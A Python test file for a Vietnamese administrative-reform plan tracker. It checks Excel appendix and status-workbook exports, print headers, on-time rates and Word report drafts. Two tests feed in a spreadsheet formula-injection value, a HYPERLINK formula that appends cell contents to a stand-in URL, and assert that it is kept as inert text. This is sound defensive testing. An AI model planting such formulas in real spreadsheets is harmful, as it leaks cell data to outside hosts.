"""The manager's files as the office clerk uses them every week: text people typed stays text when
the clerk edits the workbook, every printed page says whose plan and as of when, no 0% for what is not
due yet, and a report draft Word opens as a Vietnamese document with its blanks marked."""

from __future__ import annotations

import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlmodel import Session

from tests.conftest import Dondoc
from tests.factories import add_report
from tests.plan.test_status_workbook import read_docx
from tests.targets.helpers import import_long_my

PLAN = "Nhiệm vụ cải cách hành chính năm 2022"
ORGANIZATION = "Ủy ban nhân dân huyện Long Mỹ"


def export(store: Dondoc, tmp_path: Path, day: str) -> Any:
    path = tmp_path / "tinh-hinh.xlsx"
    store.ok("export", "--at", day, "-o", path)
    return load_workbook(path)  # not read-only: formulas and cell styles are seen as written


# ---------------------------------------------------------------- typed text stays text


def test_a_task_typed_like_a_formula_stays_text_in_the_appendix_export(sample_store: Dondoc, tmp_path: Path) -> None:
    text = '=HYPERLINK("http://vi-du.example/?x="&B7,"Xem") Báo cáo tình hình sạt lở'
    sample_store.ok("task", "add", "--unit", "XP", "--text", text, "--due", "2022-06-15", "--at", "2022-04-05")
    path = tmp_path / "phu-luc.xlsx"
    sample_store.ok("plan", "export", "--format", "xlsx", "-o", path)

    ws = load_workbook(path).active
    cell = next(c for row in ws.iter_rows() for c in row if c.value == text)
    assert cell.data_type == "s"  # was "f": a live formula in the appendix handed round the office
    assert cell.quotePrefix  # and stays text when the clerk edits the cell
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_the_appendix_export_prints_one_page_wide(sample_store: Dondoc, tmp_path: Path) -> None:
    path = tmp_path / "phu-luc.xlsx"
    sample_store.ok("plan", "export", "--format", "xlsx", "-o", path)
    ws = load_workbook(path).active
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    # Without fitToPage Excel ignores fitToWidth and prints the 152 characters' width over two pages.
    assert ws.sheet_properties.pageSetUpPr is not None and ws.sheet_properties.pageSetUpPr.fitToPage
    assert int(ws.page_setup.fitToWidth or 1) == 1 and int(ws.page_setup.fitToHeight) == 0


def test_notes_excel_would_read_as_formulas_are_quote_prefixed_in_the_detail(
    sample_store: Dondoc, session: Session, tmp_path: Path
) -> None:
    notes = {
        ("I.1", "NV"): '=HYPERLINK("http://vi-du.example/?x="&A1,"Xem")',
        ("I.3", "TCKH"): "- Đã trình dự thảo\n- Chờ ý kiến",
        ("I.4", "NV"): "+84 912 345 678 gọi lại",
        ("III.1", "VP"): "@Lan xem giúp",
        ("I.2", "XP"): "Kế hoạch số 30/KH-UBND",
    }
    for (task, unit), note in notes.items():
        add_report(session, task, unit, "in_progress", datetime(2022, 3, 20, 9, 0), percent=50, note=note)
    add_report(session, "I.1", "VP", "in_progress", datetime(2022, 1, 20, 9, 0), percent=50, note="-Phối hợp")

    ws = export(sample_store, tmp_path, "2022-04-10")["Chi tiết"]
    shown = {(row[0].value, row[2].value): row[8] for row in ws.iter_rows(min_row=2) if row[8].value}
    names = {
        "NV": "Phòng Nội vụ",
        "TCKH": "Phòng Tài chính - Kế hoạch",
        "VP": "Văn phòng Hội đồng nhân dân và Ủy ban nhân dân huyện",
        "XP": "Ủy ban nhân dân xã Xà Phiên",
    }
    for (task, unit), note in notes.items():
        cell = shown[(task, names[unit])]
        assert (cell.value, cell.data_type) == (note, "s"), task
        # Excel keeps a quote-prefixed cell text when it is edited; "Kế hoạch số …" needs none.
        assert cell.quotePrefix == (not note.startswith("Kế hoạch")), task
    support = shown[("I.1", names["VP"])]  # a supporting unit's part keeps its muted look
    assert support.quotePrefix and support.font.i and support.value == "-Phối hợp"


# ---------------------------------------------------------------- printing


def test_every_printed_page_names_the_organisation_the_plan_and_the_date(sample_store: Dondoc, tmp_path: Path) -> None:
    import_long_my(sample_store)
    sample_store.ok("explanation", "add", "--task", "I.4", "--unit", "NV", "--at", "2022-04-05")
    wb = export(sample_store, tmp_path, "2022-04-05")
    assert wb.sheetnames == ["Tổng hợp", "Chi tiết", "Xếp loại", "Chỉ tiêu", "Giải trình"]
    for ws in wb.worksheets:
        header = ws.oddHeader
        assert (header.left.text, header.center.text, header.right.text) == (
            ORGANIZATION,
            PLAN,
            "Tình hình đến ngày 05/04/2022",
        ), ws.title
        assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9, ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage and int(ws.page_setup.fitToHeight) == 0, ws.title
    # Long tables repeat their header on every page: the ranking and the targets their title and header,
    # the others row 1.
    assert wb["Xếp loại"].print_title_rows == wb["Chỉ tiêu"].print_title_rows == "$1:$3"
    for name in ("Chi tiết", "Giải trình"):
        assert wb[name].print_title_rows == "$1:$1", name


def test_the_print_header_doubles_ampersands_and_fits_excels_limit() -> None:
    from dondoc.plan.status_workbook import _page_header

    header = _page_header(
        "Sở Nội vụ & Văn phòng", "Kế hoạch " + "rất dài " * 40 + "&&&", "Tình hình đến ngày 05/04/2022"
    )
    assert header.startswith("&LSở Nội vụ && Văn phòng&CKế hoạch rất dài")
    assert len(header) <= 255 and header.count("…") == 1


# ---------------------------------------------------------------- the on-time rate


def test_an_area_or_unit_with_nothing_due_has_no_on_time_rate(sample_store: Dondoc, tmp_path: Path) -> None:
    rows = [row for row in export(sample_store, tmp_path, "2022-04-10")["Tổng hợp"].iter_rows(values_only=True)]
    by_code = {row[0]: row for row in rows if row[0] and len(row) > 8}
    # Area II (Cải cách thể chế) has nothing due before 30/06: no rate, rather than a failing 0%.
    assert by_code["II"][6] == 0 and by_code["II"][8] == "—"
    # Area I has overdue items: a real 0%.
    assert by_code["I"][6] > 0 and by_code["I"][8] == 0

    rows = [row for row in export(sample_store, tmp_path, "2022-01-15")["Tổng hợp"].iter_rows(values_only=True)]
    assert next(row for row in rows if row[0] == "Tổng")[8] == "—"
    assert next(row for row in rows if row[0] == "Tỷ lệ đúng hạn")[1] == "—"


# ---------------------------------------------------------------- the report draft


def draft(store: Dondoc, tmp_path: Path) -> Path:
    path = tmp_path / "bao-cao-quy-1.docx"
    store.ok("report", "draft", "--period", "q1", "-o", path)
    return path


def test_word_proofs_the_draft_in_vietnamese_and_dates_it_today(sample_store: Dondoc, tmp_path: Path) -> None:
    path = draft(sample_store, tmp_path)
    styles = zipfile.ZipFile(path).read("word/styles.xml").decode()
    assert 'w:lang w:val="vi-VN"' in styles and "en-US" not in styles  # no red underline under every word
    created = read_docx(path).core_properties.created
    assert created is not None and abs(created.replace(tzinfo=UTC) - datetime.now(UTC)).total_seconds() < 600


def test_the_draft_numbers_its_pages_from_the_second_at_the_top(sample_store: Dondoc, tmp_path: Path) -> None:
    section = read_docx(draft(sample_store, tmp_path)).sections[0]
    assert section.different_first_page_header_footer  # no number on the first page
    header = section.header._element.xml
    assert 'w:instr="PAGE"' in header and '<w:jc w:val="center"/>' in header
    assert not section.first_page_header.paragraphs[0].text


def test_the_draft_marks_every_blank_the_office_fills_in(sample_store: Dondoc, tmp_path: Path) -> None:
    from docx.enum.text import WD_COLOR_INDEX

    document = read_docx(draft(sample_store, tmp_path))
    runs = [run for p in document.paragraphs for run in p.runs]
    runs += [run for t in document.tables for row in t.rows for c in row.cells for p in c.paragraphs for run in p.runs]
    blanks = [run for run in runs if run.text.lstrip("- ").startswith("[")]
    assert {run.text for run in blanks} == {
        "[Đánh giá …]",
        "- [Cơ quan nhận báo cáo];",
        "[CHỨC VỤ NGƯỜI KÝ]",
        "[Chữ ký, họ và tên]",
    }
    assert all(run.font.highlight_color == WD_COLOR_INDEX.YELLOW for run in blanks)
    # A report has no "Kính gửi" line: "Như trên" would point at nothing.
    assert not any("Như trên" in run.text for run in runs)


def test_the_draft_writes_target_goals_in_words(sample_store: Dondoc, tmp_path: Path) -> None:
    import_long_my(sample_store)
    document = read_docx(draft(sample_store, tmp_path))
    table = next(t for t in document.tables if t.rows[0].cells[0].text == "STT")
    goals = {row.cells[0].text: row.cells[2].text for row in table.rows[1:]}
    assert goals["T2"] == "từ 95% trở lên" and goals["T8"] == "trên 80%"
    assert not [goal for goal in goals.values() if goal[:1] in "<>=≥≤"]
